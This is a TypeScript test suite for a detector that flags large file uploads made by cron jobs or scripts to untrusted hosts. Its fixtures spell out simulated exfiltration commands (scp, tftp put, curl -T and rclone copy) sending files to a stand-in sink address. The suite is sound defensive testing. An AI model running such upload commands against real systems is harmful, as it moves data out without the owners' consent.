import { expect } from 'chai';
import type { TelemetryItem } from '../../harness/telemetry/types.js';
import { artifact, clone, connect, exec, flow } from './factory.js';
import { runDetector } from './run.js';

const SINK = '172.18.0.3';
const VICTIM = '172.18.0.2';
const MB = 1024 * 1024;

/** cron (pid 10) → cron child (11) → sh -c (12) → the tool (13). */
function fromCron(argv: string[], opts: { tty?: string | null; uid?: number } = {}): TelemetryItem[] {
  const uid = opts.uid ?? 1000;
  return [
    exec({ t: 0, pid: 10, ppid: 1, argv: ['/usr/sbin/cron', '-f'], exe: '/usr/sbin/cron' }),
    clone({ t: 1, pid: 10, ppid: 1, exe: '/usr/sbin/cron', child: 11 }),
    clone({ t: 1, pid: 11, ppid: 10, exe: '/usr/sbin/cron', child: 12 }),
    exec({ t: 1, pid: 12, ppid: 11, uid, argv: ['/bin/sh', '-c', argv.join(' ')], exe: '/usr/bin/dash' }),
    clone({ t: 1, pid: 12, ppid: 11, uid, exe: '/usr/bin/dash', child: 13 }),
    exec({ t: 2, pid: 13, ppid: 12, uid, argv, tty: opts.tty ?? null, cwd: '/home/alice' }),
  ];
}

const scpArgv = ['scp', '-q', '/tmp/out.bin', `drop@${SINK}:/srv/upload/`];

describe('AN1170 file transfer detector', () => {
  it('alerts on scp from cron pushing more than the threshold to an untrusted host (flows, ssh child connect)', () => {
    const items = [
      ...fromCron(scpArgv),
      clone({ t: 2, pid: 13, ppid: 12, uid: 1000, exe: '/usr/bin/scp', child: 14 }),
      exec({ t: 2, pid: 14, ppid: 13, uid: 1000, argv: ['/usr/bin/ssh', '-x', '-l', 'drop', '--', SINK, 'scp -t /srv/upload/'], exe: '/usr/bin/ssh' }),
      connect({ t: 2, pid: 14, ppid: 13, uid: 1000, exe: '/usr/bin/ssh', addr: SINK, port: 22 }),
      flow({ t: 3, src: VICTIM, dst: SINK, dport: 22, bytesOut: 4 * MB, bytesIn: 10_000, event: 'LIST' }),
      flow({ t: 4, src: VICTIM, dst: SINK, dport: 22, bytesOut: 21 * MB, bytesIn: 30_000, event: 'LIST' }),
      flow({ t: 5, src: VICTIM, dst: SINK, dport: 22, bytesOut: 21 * MB, bytesIn: 30_000, event: 'DESTROY' }),
    ];
    const { alerts } = runDetector('AN1170', items);
    expect(alerts).to.have.length(1);
    const a = alerts[0]!;
    expect(a.confidence).to.equal('high');
    expect(a.summary).to.equal(`scp (pid 13, uid 1000) from cron, no TTY, sent 21.0 MB to untrusted ${SINK}:22: scp -q /tmp/out.bin drop@${SINK}:/srv/upload/`);
    expect(a.evidence.processChain.map((p) => p.pid)).to.deep.equal([13, 12, 11, 10]);
    expect(a.evidence.flows).to.have.length(1);
    expect(a.evidence.facts.bytesSent).to.equal(21 * MB);
  });

  it('counts the repeated snapshots of one flow once (max per flow tuple), and sums distinct flows', () => {
    const items = [
      ...fromCron(['ftp', '-n', SINK]),
      flow({ t: 3, src: VICTIM, sport: 5000, dst: SINK, dport: 21, bytesOut: 2000 }),
      flow({ t: 4, src: VICTIM, sport: 5001, dst: SINK, dport: 30001, bytesOut: 6 * MB }),
      flow({ t: 5, src: VICTIM, sport: 5001, dst: SINK, dport: 30001, bytesOut: 6 * MB }),
      flow({ t: 6, src: VICTIM, sport: 5001, dst: SINK, dport: 30001, bytesOut: 6 * MB }),
    ];
    expect(runDetector('AN1170', items).alerts).to.have.length(0);
    items.push(flow({ t: 7, src: VICTIM, sport: 5002, dst: SINK, dport: 30002, bytesOut: 5 * MB }));
    const { alerts } = runDetector('AN1170', items);
    expect(alerts).to.have.length(1);
    expect(alerts[0]!.evidence.facts.bytesSent).to.equal(11 * MB + 2000);
  });

  it('TFTP: counts the bytes the client sent as reply bytes of the flow the server appears to originate', () => {
    const items = [
      ...fromCron(['tftp', SINK, '-c', 'put', '/tmp/out.bin']),
      flow({ t: 3, protocol: 'udp', src: VICTIM, sport: 40000, dst: SINK, dport: 69, bytesOut: 60, bytesIn: 0 }),
      flow({ t: 4, protocol: 'udp', src: SINK, sport: 50000, dst: VICTIM, dport: 40000, bytesOut: 300_000, bytesIn: 16 * MB }),
    ];
    const { alerts } = runDetector('AN1170', items);
    expect(alerts).to.have.length(1);
    expect(alerts[0]!.evidence.facts.bytesSent).to.equal(16 * MB + 60);
  });

  it('TFTP with connect() to the server\'s data port: the same alert wherever the connect falls among the flows', () => {
    // busybox tftp: WRQ to 69 by sendto, then connect() to the port the server answered from. Flows are polled, so
    // the connect may come before or after a listing's flows, and conntrack lists them in any order: the alert must
    // not depend on either.
    const request = flow({ t: 3, protocol: 'udp', src: VICTIM, sport: 40000, dst: SINK, dport: 69, bytesOut: 60, bytesIn: 0 });
    const data = flow({ t: 3, protocol: 'udp', src: SINK, sport: 50000, dst: VICTIM, dport: 40000, bytesOut: 300_000, bytesIn: 16 * MB });
    const argv = ['busybox', 'tftp', '-p', '-l', '/tmp/out.bin', SINK];
    const connected = connect({ t: 2, pid: 13, ppid: 12, uid: 1000, exe: '/usr/bin/busybox', addr: SINK, port: 50000 });
    const upload = artifact({ path: '/tmp/out.bin', t: 2, size: 16 * MB });
    const outcome = (batch: TelemetryItem[], connectAt: number) => {
      const items = [...fromCron(argv), upload, ...batch];
      items.splice(items.length - batch.length + connectAt, 0, connected);
      return runDetector('AN1170', items).alerts.map((a) => [a.summary, a.evidence.facts.volumeFrom]);
    };
    const alert = (where: string) => [[`busybox (pid 13, uid 1000) from cron, no TTY, sent 16.0 MB to untrusted ${where}: ${argv.slice(1).join(' ')}`, 'flow byte counts']];
    // Before or after the whole listing: the live feed passes items in time order, as replay does, so an audit event
    // lands inside a listing only when it has the listing's very millisecond.
    for (const at of [0, 2]) {
      expect(outcome([request, data], at), `request, data; connect at ${at}`).to.deep.equal(alert(`${SINK}:69`));
      expect(outcome([data, request], at), `data, request; connect at ${at}`).to.deep.equal(alert(`${SINK}:69`));
    }
  });

  it('without flows, falls back to the size of the uploaded file (at the end of the stream)', () => {
    const items = [...fromCron(scpArgv), artifact({ path: '/tmp/out.bin', t: 3, size: 20 * MB })];
    const { alerts } = runDetector('AN1170', items);
    expect(alerts).to.have.length(1);
    expect(alerts[0]!.evidence.facts.volumeFrom).to.equal('size of the uploaded files');
  });

  it('a non-interactive shell script (no cron) is medium confidence', () => {
    const items = [
      exec({ t: 0, pid: 20, ppid: 1, argv: ['bash', '/opt/sync.sh'], exe: '/usr/bin/bash' }),
      exec({ t: 1, pid: 21, ppid: 20, argv: ['curl', '-T', '/tmp/d.tar', `ftp://${SINK}/in/`] }),
      flow({ t: 3, src: VICTIM, dst: SINK, dport: 21, bytesOut: 15 * MB }),
    ];
    const { alerts } = runDetector('AN1170', items);
    expect(alerts).to.have.length(1);
    expect(alerts[0]!.confidence).to.equal('medium');
  });

  describe('look-alikes that must not alert', () => {
    it('interactive use (a TTY)', () => {
      const items = [...fromCron(scpArgv, { tty: 'pts1' }), flow({ t: 3, src: VICTIM, dst: SINK, bytesOut: 50 * MB })];
      const { alerts, stats } = runDetector('AN1170', items);
      expect(alerts).to.have.length(0);
      expect(stats.interactive).to.equal(1);
    });

    it('small transfers', () => {
      const items = [...fromCron(scpArgv), flow({ t: 3, src: VICTIM, dst: SINK, bytesOut: 8 * 1024 })];
      const { alerts, stats } = runDetector('AN1170', items);
      expect(alerts).to.have.length(0);
      expect(stats.belowThreshold).to.equal(1);
    });

    it('trusted destinations (shared trusted_cidrs, or the TrustedCidrs threshold)', () => {
      const items = [...fromCron(scpArgv), flow({ t: 3, src: VICTIM, dst: SINK, bytesOut: 50 * MB })];
      expect(runDetector('AN1170', items, { shared: { trustedCidrs: ['172.18.0.0/16'] } }).alerts).to.have.length(0);
      expect(runDetector('AN1170', items, { overrides: { TrustedCidrs: [`${SINK}/32`] } }).alerts).to.have.length(0);
      expect(runDetector('AN1170', items, { overrides: { TrustedCidrs: ['10.0.0.0/8'] } }).alerts).to.have.length(1);
    });

    it('downloads (bytes received, not sent)', () => {
      const items = [...fromCron(['scp', `drop@${SINK}:/srv/big.bin`, '/tmp/']), flow({ t: 3, src: VICTIM, dst: SINK, bytesOut: 100_000, bytesIn: 50 * MB })];
      expect(runDetector('AN1170', items).alerts).to.have.length(0);
    });

    it('tools the patterns do not name', () => {
      const items = [...fromCron(['ssh', SINK, 'uptime']), flow({ t: 3, src: VICTIM, dst: SINK, bytesOut: 50 * MB })];
      const { alerts, stats } = runDetector('AN1170', items);
      expect(alerts).to.have.length(0);
      expect(stats.toolExecs).to.equal(0);
    });

    it('flows to other addresses', () => {
      const items = [...fromCron(scpArgv), flow({ t: 3, src: VICTIM, dst: '172.18.0.9', bytesOut: 50 * MB })];
      expect(runDetector('AN1170', items).alerts).to.have.length(0);
    });
  });

  it('CommandLinePatternMatch is configurable', () => {
    const items = [...fromCron(['rclone', 'copy', '/data', 'remote:']), connect({ t: 2, pid: 13, ppid: 12, exe: '/usr/bin/rclone', addr: SINK, port: 443 }), flow({ t: 3, src: VICTIM, dst: SINK, dport: 443, bytesOut: 50 * MB })];
    expect(runDetector('AN1170', items).alerts).to.have.length(0);
    expect(runDetector('AN1170', items, { overrides: { CommandLinePatternMatch: ['^rclone '] } }).alerts).to.have.length(1);
  });
});
